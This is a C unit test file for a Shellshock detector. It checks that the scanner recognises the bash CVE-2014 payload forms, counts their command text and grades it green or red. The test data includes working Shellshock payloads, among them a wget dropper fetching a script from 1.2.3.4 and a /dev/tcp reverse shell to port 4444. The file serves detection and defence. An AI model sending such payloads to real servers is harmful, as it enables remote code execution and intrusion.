/*
 * test_payload.c - the opener, the CVE forms and payload bookkeeping
 * (ss_payload.c), and the names of ss_names.c.
 *
 * Commands and grades come from ss_analyze_commands (another file); here
 * they are only checked where the contract leaves no doubt (echo is green,
 * wget red), which also proves which text was handed over as commands.
 */
#include <stdlib.h>

#include "ss.h"
#include "ss_decode.h"
#include "unit.h"

static ss_rules_t *rules;
static ss_result_t res;

static ss_payload_t *scan(const char *value, size_t len)
{
    ss_result_reset(&res);
    /* Exactly sized copy: nothing after the value for a stray read to hit. */
    char *copy = malloc(len ? len : 1);
    memcpy(copy, value, len);
    ss_payload_t *p = ss_scan_value(rules, copy, len, SS_VEC_HTTP_HEADER, "User-Agent", 7, len, &res);
    free(copy); /* the payload's text lives in the arena, not here */
    return p;
}

/* ---- ss_opener_length ---- */

typedef struct {
    const char *value;
    size_t want;
} opener_case_t;

static const opener_case_t opener_cases[] = {
    {"() { :;};", 4},
    {"(){ :; }", 3},
    {"()\t{", 4},
    {"( )\n\r{", 6},
    {"  \t() {", 7},
    {"'() { :;}'", 5},
    {"\"() {", 5},
    {"\r\n() {", 6},
    {"''() {", 0},        /* one quote only */
    {"x=() {_;}", 0},     /* not at the start */
    {"function() {", 0},
    {"() x {", 0},
    {"()", 0},
    {"() ", 0},
    {"(", 0},
    {"", 0},
    {"(see below) {", 0},
    {"(){", 3},
};

static void test_opener_length(void)
{
    for (size_t i = 0; i < sizeof(opener_cases) / sizeof(opener_cases[0]); i++) {
        const opener_case_t *c = &opener_cases[i];
        size_t n = strlen(c->value);
        char *copy = malloc(n ? n : 1);
        memcpy(copy, c->value, n);
        size_t got = ss_opener_length(copy, n);
        if (got != c->want)
            fprintf(stderr, "\n  opener \"%s\": got %zu want %zu\n", c->value, got, c->want);
        CU_ASSERT_EQUAL(got, c->want);
        free(copy);
    }
    CU_ASSERT_EQUAL(ss_opener_length(NULL, 0), 0);
    CU_ASSERT_EQUAL(ss_opener_length("() {", 3), 0); /* the '{' lies beyond len */
}

/* ---- CVE forms ---- */

#define NO_CMD NULL

typedef struct {
    const char *name;
    const char *payload;
    unsigned cves;
    bool unclosed;
    const char *first_command; /* expected commands[0], NO_CMD for none */
    ss_grade_t grade;          /* SS_GRADE_NONE: not checked */
} cve_case_t;

static const cve_case_t cve_cases[] = {
    {"Nikto 6271", "() { :; }; echo 93e4r0-CVE-2014-6271: true;echo;echo;", SS_CVE_2014_6271, false,
     "echo", SS_GRADE_GREEN},
    {"Nikto 6278", "() { _; } >_[$($())] { echo 93e4r0-CVE-2014-6278: true; echo;echo; }",
     SS_CVE_2014_6271 | SS_CVE_2014_6278, false, "echo", SS_GRADE_GREEN},
    {"6278 spaced", "() { _; }  >  _[$($())]  { wget http://e.com/x; }",
     SS_CVE_2014_6271 | SS_CVE_2014_6278, false, "wget", SS_GRADE_RED},
    {"6278 second brace unclosed", "() { _; } >_[$($())] { echo x", SS_CVE_2014_6271, false, NULL,
     SS_GRADE_NONE},
    {"6278 word without $(", "() { _; } >_[x] { echo x; }", SS_CVE_2014_6271, false, NULL,
     SS_GRADE_NONE},
    {"no blanks", "(){ :; }", SS_CVE_2014_6271, false, NO_CMD, SS_GRADE_GREEN},
    {"wget dropper", "() { :;}; wget http://1.2.3.4/x.sh -O /tmp/x.sh", SS_CVE_2014_6271, false,
     "wget", SS_GRADE_RED},
    {"7169", "() { (a)=>\\' wget http://e.com/x", SS_CVE_2014_7169, true, "wget", SS_GRADE_RED},
    {"7169 blanks", "() { ( a ) = > \\echo hi", SS_CVE_2014_7169, true, "echo", SS_GRADE_GREEN},
    {"7169 needs a word", "() { ()=>\\ echo", 0, true, NO_CMD, SS_GRADE_GREEN},
    {"7186", "() { true <<EOF <<EOF <<EOF <<EOF <<EOF <<EOF <<EOF <<EOF <<EOF <<EOF <<EOF; }; echo",
     SS_CVE_2014_6271 | SS_CVE_2014_7186, false, "echo", SS_GRADE_GREEN},
    {"7186 unclosed", "() { <<a <<a <<a <<a <<a <<a <<a <<a <<a <<a", SS_CVE_2014_7186, true, NO_CMD,
     SS_GRADE_GREEN},
    {"9 here-documents", "() { <<a <<a <<a <<a <<a <<a <<a <<a <<a; }", SS_CVE_2014_6271, false,
     NO_CMD, SS_GRADE_GREEN},
    {"quoted << do not count",
     "() { echo '<< << << << << << << << << << <<'; }", SS_CVE_2014_6271, false, NO_CMD,
     SS_GRADE_GREEN},
    {"7187",
     "() { for x in ; do for x in ; do for x in ; do for x in ; do for x in ; do for x in ; do "
     "for x in ; do for x in ; do for x in ; do for x in ; do : ; done; done; done; done; done; "
     "done; done; done; done; done; }; echo",
     SS_CVE_2014_6271 | SS_CVE_2014_7187, false, "echo", SS_GRADE_GREEN},
    {"9 nested for",
     "() { for x in ; do for x in ; do for x in ; do for x in ; do for x in ; do for x in ; do "
     "for x in ; do for x in ; do for x in ; do : ; done; done; done; done; done; done; done; "
     "done; done; }",
     SS_CVE_2014_6271, false, NO_CMD, SS_GRADE_GREEN},
    {"10 for in sequence",
     "() { for a in;do :;done;for a in;do :;done;for a in;do :;done;for a in;do :;done;"
     "for a in;do :;done;for a in;do :;done;for a in;do :;done;for a in;do :;done;"
     "for a in;do :;done;for a in;do :;done; }",
     SS_CVE_2014_6271, false, NO_CMD, SS_GRADE_GREEN},
    {"6277", "() { x() { _; }; x() { _; } <<a; }", SS_CVE_2014_6271 | SS_CVE_2014_6277, false,
     NO_CMD, SS_GRADE_GREEN},
    {"6277 unclosed", "() { x () { _; }; x <<a", SS_CVE_2014_6277, true, NO_CMD, SS_GRADE_GREEN},
    {"nested def without here-doc", "() { x() { _; }; }; echo", SS_CVE_2014_6271, false, "echo",
     SS_GRADE_GREEN},
    {"unclosed", "() { :;", 0, true, NO_CMD, SS_GRADE_GREEN},
    {"unclosed with commands", "() { wget http://e.com/x", 0, true, NO_CMD, SS_GRADE_GREEN},
    {"unbalanced", "() { { { :; }", 0, true, NO_CMD, SS_GRADE_GREEN},
    {"brace in quotes", "() { echo \"}\"; echo '}'; }; wget x", SS_CVE_2014_6271, false, "wget",
     SS_GRADE_RED},
    {"escaped brace", "() { echo \\}; }; echo", SS_CVE_2014_6271, false, "echo", SS_GRADE_GREEN},
    {"unterminated quote in body", "() { echo \"}; wget x", 0, true, NO_CMD, SS_GRADE_GREEN},
    {"quoted payload", "'() { :;}; echo hi'", SS_CVE_2014_6271, false, "echo", SS_GRADE_GREEN},
    {"reverse shell", "() { :;}; /bin/bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", SS_CVE_2014_6271,
     false, NULL, SS_GRADE_RED},
};

static void test_cve_forms(void)
{
    for (size_t i = 0; i < sizeof(cve_cases) / sizeof(cve_cases[0]); i++) {
        const cve_case_t *c = &cve_cases[i];
        ss_payload_t *p = scan(c->payload, strlen(c->payload));
        CU_ASSERT_PTR_NOT_NULL_FATAL(p);
        bool unclosed = (p->problems & SS_PROB_UNCLOSED_BODY) != 0;
        if (p->cves != c->cves || unclosed != c->unclosed)
            fprintf(stderr, "\n  cve case \"%s\": cves %#x want %#x, unclosed %d\n", c->name,
                    p->cves, c->cves, unclosed);
        CU_ASSERT_EQUAL(p->cves, c->cves);
        CU_ASSERT_EQUAL(unclosed, c->unclosed);
        if (c->first_command) {
            CU_ASSERT(p->n_commands >= 1);
            if (p->n_commands >= 1)
                HS_ASSERT_STR(p->commands[0], c->first_command);
        } else if (c->grade == SS_GRADE_GREEN) {
            CU_ASSERT_EQUAL(p->n_commands, 0); /* no command text handed over */
        }
        if (c->grade != SS_GRADE_NONE) {
            if (p->grade != c->grade)
                fprintf(stderr, "\n  cve case \"%s\": grade %d want %d\n", c->name, p->grade,
                        c->grade);
            CU_ASSERT_EQUAL(p->grade, c->grade);
        }
    }
}

/* ---- ss_scan_value bookkeeping ---- */

static void test_scan_value_fields(void)
{
    const char v[] = "  \t() { :;}; echo hi  ";
    ss_payload_t *p = scan(v, sizeof(v) - 1);
    CU_ASSERT_PTR_NOT_NULL_FATAL(p);
    HS_ASSERT_STR(p->payload, "() { :;}; echo hi  "); /* leading blanks dropped */
    CU_ASSERT_EQUAL(p->payload_len, strlen("() { :;}; echo hi  "));
    HS_ASSERT_STR(p->header, "User-Agent");
    CU_ASSERT_EQUAL(p->vector, SS_VEC_HTTP_HEADER);
    CU_ASSERT_EQUAL(p->raw_offset, 7);
    CU_ASSERT_EQUAL(p->raw_len, sizeof(v) - 1);
    CU_ASSERT_EQUAL(res.n_payloads, 1);
    CU_ASSERT_PTR_EQUAL(p, &res.payloads[0]);
    CU_ASSERT_EQUAL(res.max_grade, p->grade);
    CU_ASSERT_EQUAL(p->problems & SS_PROB_NUL_IN_VALUE, 0);
}

static void test_scan_value_rejects(void)
{
    static const char *const values[] = {
        "Mozilla/5.0 (X11; Linux x86_64)", "function() { return 1; }", "x=() {_;}", "", "()",
        "(see below) {",
    };
    for (size_t i = 0; i < sizeof(values) / sizeof(values[0]); i++) {
        CU_ASSERT_PTR_NULL(scan(values[i], strlen(values[i])));
        CU_ASSERT_EQUAL(res.n_payloads, 0);
        CU_ASSERT_EQUAL(res.problems, 0);
    }
}

static void test_scan_value_nul(void)
{
    const char v[] = "() { :;}; echo \0hi";
    ss_payload_t *p = scan(v, sizeof(v) - 1);
    CU_ASSERT_PTR_NOT_NULL_FATAL(p);
    CU_ASSERT_EQUAL(p->payload_len, sizeof(v) - 1);
    CU_ASSERT(memcmp(p->payload, v, sizeof(v) - 1) == 0);
    CU_ASSERT_EQUAL(p->payload[p->payload_len], '\0');
    CU_ASSERT(p->problems & SS_PROB_NUL_IN_VALUE);
    CU_ASSERT(p->cves & SS_CVE_2014_6271);
}

static void test_too_many_payloads(void)
{
    ss_result_reset(&res);
    const char v[] = "() { :;}; wget http://e.com/x";
    for (int i = 0; i < SS_MAX_PAYLOADS + 4; i++) {
        ss_payload_t *p = ss_scan_value(rules, v, sizeof(v) - 1, SS_VEC_HTTP_URI, NULL, 0, 0, &res);
        CU_ASSERT((p != NULL) == (i < SS_MAX_PAYLOADS));
    }
    CU_ASSERT_EQUAL(res.n_payloads, SS_MAX_PAYLOADS);
    CU_ASSERT(res.problems & SS_PROB_TOO_MANY_PAYLOADS);
    CU_ASSERT_PTR_NULL(res.payloads[0].header);
    CU_ASSERT_EQUAL(res.max_grade, SS_GRADE_RED);
    /* A reset forgets all of it. */
    ss_result_reset(&res);
    CU_ASSERT_EQUAL(res.n_payloads, 0);
    CU_ASSERT_EQUAL(res.problems, 0);
    CU_ASSERT_EQUAL(res.max_grade, SS_GRADE_NONE);
}

static void test_max_grade(void)
{
    ss_result_reset(&res);
    const char a[] = "() { :;}; echo hi", b[] = "() { :;}; wget http://e.com/x";
    ss_scan_value(rules, a, sizeof(a) - 1, SS_VEC_HTTP_HEADER, "A", 0, 0, &res);
    CU_ASSERT_EQUAL(res.max_grade, SS_GRADE_GREEN);
    ss_scan_value(rules, b, sizeof(b) - 1, SS_VEC_HTTP_HEADER, "B", 0, 0, &res);
    CU_ASSERT_EQUAL(res.max_grade, SS_GRADE_RED);
    ss_scan_value(rules, a, sizeof(a) - 1, SS_VEC_HTTP_HEADER, "C", 0, 0, &res);
    CU_ASSERT_EQUAL(res.max_grade, SS_GRADE_RED);
}

static void test_analyze_payload_direct(void)
{
    ss_result_reset(&res);
    ss_payload_t p;
    memset(&p, 0, sizeof(p));
    p.payload = "() { _; } >_[$($())] { echo x; }";
    p.payload_len = strlen(p.payload);
    ss_analyze_payload(rules, &p, &res.arena);
    CU_ASSERT_EQUAL(p.cves, SS_CVE_2014_6271 | SS_CVE_2014_6278);
    CU_ASSERT_EQUAL(p.grade, SS_GRADE_GREEN);
    /* Not a payload: nothing is set. */
    memset(&p, 0, sizeof(p));
    p.payload = "echo hi";
    p.payload_len = strlen(p.payload);
    ss_analyze_payload(rules, &p, &res.arena);
    CU_ASSERT_EQUAL(p.cves, 0);
    CU_ASSERT_EQUAL(p.n_commands, 0);
}

/* Long hostile bodies, each "() {" and then a unit repeated. */
typedef struct {
    const char *what;
    const char *unit;
    unsigned problems, cves; /* that must be set */
} huge_case_t;

static const huge_case_t huge_cases[] = {
    {"braces, redirections, parens", "{<(f", SS_PROB_UNCLOSED_BODY, 0},
    {"here-documents", "<<", SS_PROB_UNCLOSED_BODY, SS_CVE_2014_7186},
    {"for/do nesting", "for;do ", SS_PROB_UNCLOSED_BODY, SS_CVE_2014_7187},
    {"quotes", "\"", SS_PROB_UNCLOSED_BODY, 0},
    {"escapes", "\\", SS_PROB_UNCLOSED_BODY, 0},
    {"name ( blanks", "a  (  ", SS_PROB_UNCLOSED_BODY, 0},
    {"nested definitions", "x() { ", SS_PROB_UNCLOSED_BODY, 0},
};

/* "() {" + unit repeated up to n bytes. */
static char *huge_value(const char *unit, size_t n)
{
    char *v = malloc(n);
    size_t k = strlen(unit);
    memcpy(v, "() {", 4);
    for (size_t i = 4; i < n; i++)
        v[i] = unit[(i - 4) % k];
    return v;
}

/* Work (ss_work_steps) to scan one huge value, checking what it found. */
static unsigned long long huge_work(const huge_case_t *c, size_t n)
{
    char *v = huge_value(c->unit, n);
    unsigned long long before = ss_work_steps;
    ss_payload_t *p = scan(v, n);
    unsigned long long work = ss_work_steps - before;
    CU_ASSERT_PTR_NOT_NULL(p);
    if (p) {
        CU_ASSERT_EQUAL(p->payload_len, n);
        CU_ASSERT_EQUAL(p->problems & c->problems, c->problems);
        CU_ASSERT_EQUAL(p->cves & c->cves, c->cves);
    }
    free(v);
    return work;
}

/* Bytes visited per input byte, at most (the body walk, the copy, a few
 * one-pass checks). */
#define WORK_PER_BYTE 8

/* Long hostile bodies: work counted (never timed) stays linear: bounded per
 * byte, and twice the input is at most twice the work. */
static void test_huge_payloads(void)
{
    size_t n = 1u << 20;
    for (size_t i = 0; i < sizeof(huge_cases) / sizeof(huge_cases[0]); i++) {
        const huge_case_t *c = &huge_cases[i];
        unsigned long long w1 = huge_work(c, n), w2 = huge_work(c, 2 * n);
        if (getenv("HS_SHOW_WORK") || w1 > WORK_PER_BYTE * (unsigned long long)n ||
            w2 > 2 * w1 + 4096)
            fprintf(stderr, "\n  %s: work %llu at %zu bytes, %llu at %zu\n", c->what, w1, n, w2,
                    2 * n);
        CU_ASSERT(w1 >= n); /* the walk looks at every byte */
        CU_ASSERT(w1 <= WORK_PER_BYTE * (unsigned long long)n);
        CU_ASSERT(w2 <= 2 * w1 + 4096);
    }
}

/* ---- names ---- */

static void test_names(void)
{
    HS_ASSERT_STR(ss_grade_name(SS_GRADE_NONE), "none");
    HS_ASSERT_STR(ss_grade_name(SS_GRADE_GREEN), "green");
    HS_ASSERT_STR(ss_grade_name(SS_GRADE_YELLOW), "yellow");
    HS_ASSERT_STR(ss_grade_name(SS_GRADE_RED), "red");
    CU_ASSERT_EQUAL(ss_grade_parse("RED"), SS_GRADE_RED);
    CU_ASSERT_EQUAL(ss_grade_parse("Yellow"), SS_GRADE_YELLOW);
    CU_ASSERT_EQUAL(ss_grade_parse("green"), SS_GRADE_GREEN);
    CU_ASSERT_EQUAL(ss_grade_parse("1"), SS_GRADE_GREEN);
    CU_ASSERT_EQUAL(ss_grade_parse("3"), SS_GRADE_RED);
    CU_ASSERT_EQUAL(ss_grade_parse("4"), SS_GRADE_NONE);
    CU_ASSERT_EQUAL(ss_grade_parse("redd"), SS_GRADE_NONE);
    CU_ASSERT_EQUAL(ss_grade_parse(""), SS_GRADE_NONE);
    CU_ASSERT_EQUAL(ss_grade_parse(NULL), SS_GRADE_NONE);

    HS_ASSERT_STR(ss_vector_name(SS_VEC_HTTP_HEADER), "http.header");
    HS_ASSERT_STR(ss_vector_name(SS_VEC_HTTP_URI), "http.uri");
    HS_ASSERT_STR(ss_vector_name(SS_VEC_HTTP_BODY), "http.body");
    HS_ASSERT_STR(ss_vector_name(SS_VEC_TELNET_ENVIRON), "telnet.environ");
    HS_ASSERT_STR(ss_vector_name(SS_VEC_TELNET_COMMAND), "telnet.command");

    static const char *const cves[] = {"CVE-2014-6271", "CVE-2014-7169", "CVE-2014-7186",
                                       "CVE-2014-7187", "CVE-2014-6277", "CVE-2014-6278"};
    for (unsigned i = 0; i < SS_CVE_COUNT; i++)
        HS_ASSERT_STR(ss_cve_name(i), cves[i]);
    CU_ASSERT_EQUAL(1u << 5, SS_CVE_2014_6278);

    /* One distinct, non-empty sentence per problem bit. */
    for (unsigned i = 0; i < SS_PROB_COUNT; i++) {
        const char *t = ss_problem_text(i);
        CU_ASSERT(t && strlen(t) > 10 && t[strlen(t) - 1] == '.');
        for (unsigned j = 0; j < i; j++)
            CU_ASSERT(strcmp(t, ss_problem_text(j)) != 0);
    }
    CU_ASSERT_PTR_NOT_NULL(ss_problem_text(SS_PROB_COUNT));
}

static void test_result_life_cycle(void)
{
    ss_result_t r;
    ss_result_init(&r);
    CU_ASSERT_EQUAL(r.n_payloads, 0);
    const char v[] = "() { :;}; echo";
    CU_ASSERT_PTR_NOT_NULL(ss_scan_value(rules, v, sizeof(v) - 1, SS_VEC_HTTP_BODY, NULL, 0, 0, &r));
    ss_result_reset(&r);
    CU_ASSERT_EQUAL(r.n_payloads, 0);
    ss_result_free(&r);
    ss_result_free(&r); /* twice is harmless */
}

static int suite_init(void)
{
    rules = ss_rules_new();
    ss_result_init(&res);
    return rules ? 0 : -1;
}

static int suite_cleanup(void)
{
    ss_result_free(&res);
    ss_rules_free(rules);
    return 0;
}

static CU_TestInfo tests[] = {
    {"opener length", test_opener_length},
    {"CVE forms and command text", test_cve_forms},
    {"scan_value fills the payload", test_scan_value_fields},
    {"scan_value rejects non-openers", test_scan_value_rejects},
    {"NUL in a value", test_scan_value_nul},
    {"payload cap", test_too_many_payloads},
    {"max grade", test_max_grade},
    {"analyze_payload directly", test_analyze_payload_direct},
    {"huge hostile payloads", test_huge_payloads},
    {"names", test_names},
    {"result life cycle", test_result_life_cycle},
    CU_TEST_INFO_NULL,
};

HS_UNIT_MAIN_FIXTURE("payload", suite_init, suite_cleanup, tests)
